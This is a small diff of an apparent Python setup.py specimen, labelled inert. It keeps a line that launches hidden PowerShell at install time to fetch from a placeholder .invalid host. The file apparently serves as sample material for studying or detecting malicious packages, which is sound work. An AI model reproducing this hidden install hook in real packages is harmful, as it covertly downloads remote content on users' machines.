@@ -1,9 +1,7 @@
 # Inert specimen: the host does not exist.
 import subprocess
 
-subprocess.Popen(
-    ["powershell", "-WindowStyle", "Hidden", "-Command", "Invoke-WebRequest http://garden-seeds.invalid/x"]
-)
+subprocess.Popen(["powershell", "-WindowStyle", "Hidden", "-Command", "Invoke-WebRequest http://garden-seeds.invalid/x"])
 
 from setuptools import setup
 
